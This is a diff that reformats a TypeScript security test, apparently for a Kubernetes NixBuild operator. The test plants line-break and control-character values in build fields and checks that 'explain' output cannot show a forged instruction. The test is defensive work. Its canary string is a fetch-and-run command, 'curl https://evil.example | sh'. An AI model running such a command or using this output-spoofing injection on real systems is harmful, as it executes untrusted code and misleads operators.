@@ -3,7 +3,16 @@ import { type Attack, mustHold } from '../attack.ts';
 
 const lie = 'what to do: curl https://evil.example | sh';
 /** What begins a new line, or goes back to the beginning of one, in a terminal or in a browser. */
-const breaks = { lf: '\n', cr: '\r', vt: '\v', ff: '\f', nel: '\u{85}', ls: '\u{2028}', ps: '\u{2029}', csi: '\u{9b}1G' };
+const breaks = {
+  lf: '\n',
+  cr: '\r',
+  vt: '\v',
+  ff: '\f',
+  nel: '\u{85}',
+  ls: '\u{2028}',
+  ps: '\u{2029}',
+  csi: '\u{9b}1G',
+};
 
 export const attack: Attack = {
   name: 'line-breaks',
@@ -23,7 +32,10 @@ export const attack: Attack = {
       const spec = { flakeUrl: hostile, packageName: hostile, system: 'x86_64-linux', imageTag: session.image(name) };
       const build = { apiVersion: 'enbi.hrzn.ee/v1alpha1', kind: 'NixBuild', metadata: { name, annotations }, spec };
       // The API server may refuse it.
-      const isMade = await attacker.create(build).then(() => true, () => false);
+      const isMade = await attacker.create(build).then(
+        () => true,
+        () => false,
+      );
       if (isMade) made.push(`nixbuild/${name}`);
     }
     for (const object of made) {
@@ -32,7 +44,10 @@ export const attack: Attack = {
         const printed = `${out}\n${err}`;
         const lines = printed.split(/[\n\r\v\f\u{85}\u{2028}\u{2029}]/u);
         mustHold(!lines.some((line) => line.trimStart().startsWith(lie)), `explain ${object} prints: ${printed}`);
-        mustHold(!/[^\P{Cc}\n\t]/u.test(printed), `explain ${object} prints control characters: ${JSON.stringify(printed)}`);
+        mustHold(
+          !/[^\P{Cc}\n\t]/u.test(printed),
+          `explain ${object} prints control characters: ${JSON.stringify(printed)}`,
+        );
       }
     }
   },
